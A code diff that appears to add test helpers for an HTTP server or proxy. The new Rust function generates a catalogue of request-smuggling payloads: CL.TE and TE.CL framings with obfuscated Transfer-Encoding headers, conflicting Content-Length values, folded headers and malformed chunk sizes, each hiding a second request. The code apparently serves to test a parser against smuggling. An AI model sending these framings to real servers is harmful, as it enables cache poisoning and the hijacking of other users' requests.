@@ -237,3 +237,116 @@ pub fn websocket_upgrade(target: &str) -> Vec<u8> {
         b"",
     )
 }
+
+/// Ambiguous framings, each hiding a second request behind the first (name, framing headers,
+/// body): CL.TE and TE.CL with every spelling of `Transfer-Encoding` proxies disagree on, and the
+/// rest of the request-smuggling catalogue. `s` is the smuggled request.
+pub fn smuggling_cases(s: &str) -> Vec<(&'static str, Vec<String>, Vec<u8>)> {
+    let cl_te_body = format!("0\r\n\r\n{s}");
+    let te_cl_body = format!("{:x}\r\n{s}\r\n0\r\n\r\n", s.len());
+    let cl = |body: &str| format!("Content-Length: {}", body.len());
+    let te_variants = [
+        "Transfer-Encoding: chunked",
+        "Transfer-Encoding: CHUNKED",
+        "Transfer-Encoding:\tchunked",
+        "Transfer-Encoding: chunked ",
+        "Transfer-Encoding: identity, chunked",
+        "transfer-encoding: chunked",
+    ];
+    let mut cases: Vec<(&'static str, Vec<String>, Vec<u8>)> = Vec::new();
+    for te in te_variants {
+        cases.push((
+            "CL.TE",
+            vec![cl(&cl_te_body), te.to_string()],
+            cl_te_body.clone().into_bytes(),
+        ));
+        cases.push((
+            "TE.CL",
+            vec![te.to_string(), "Content-Length: 4".to_string()],
+            te_cl_body.clone().into_bytes(),
+        ));
+    }
+    cases.extend([
+        (
+            "two Content-Lengths",
+            vec!["Content-Length: 0".to_string(), cl(s)],
+            s.as_bytes().to_vec(),
+        ),
+        (
+            "two Content-Lengths, reversed",
+            vec![cl(s), "Content-Length: 0".to_string()],
+            s.as_bytes().to_vec(),
+        ),
+        (
+            "Content-Length list",
+            vec![format!("Content-Length: 0, {}", s.len())],
+            s.as_bytes().to_vec(),
+        ),
+        (
+            "Content-Length with a sign",
+            vec![format!("Content-Length: +{}", s.len())],
+            s.as_bytes().to_vec(),
+        ),
+        (
+            "Transfer-Encoding: chunked, identity",
+            vec![
+                "Transfer-Encoding: chunked, identity".to_string(),
+                cl(&cl_te_body),
+            ],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "Transfer-Encoding: chunked, identity alone",
+            vec!["Transfer-Encoding: chunked, identity".to_string()],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "Transfer-Encoding: xchunked",
+            vec!["Transfer-Encoding: xchunked".to_string(), cl(&cl_te_body)],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "Transfer-Encoding: \"chunked\"",
+            vec!["Transfer-Encoding: \"chunked\"".to_string()],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "two Transfer-Encodings, the last not chunked",
+            vec![
+                "Transfer-Encoding: chunked".to_string(),
+                "Transfer-Encoding: x".to_string(),
+            ],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "space before the colon",
+            vec!["Transfer-Encoding : chunked".to_string(), cl(&cl_te_body)],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "folded Transfer-Encoding",
+            vec![
+                "X-Pad: 1".to_string(),
+                " Transfer-Encoding: chunked".to_string(),
+                cl(&cl_te_body),
+            ],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "Transfer-Encoding in HTTP/1.0",
+            vec!["Transfer-Encoding: chunked".to_string()],
+            cl_te_body.clone().into_bytes(),
+        ),
+        (
+            "bad chunk size",
+            vec!["Transfer-Encoding: chunked".to_string()],
+            format!("1x\r\nA\r\n0\r\n\r\n{s}").into_bytes(),
+        ),
+        (
+            "chunk size overflow",
+            vec!["Transfer-Encoding: chunked".to_string()],
+            format!("10000000000000001\r\nA\r\n0\r\n\r\n{s}").into_bytes(),
+        ),
+    ]);
+    cases
+}
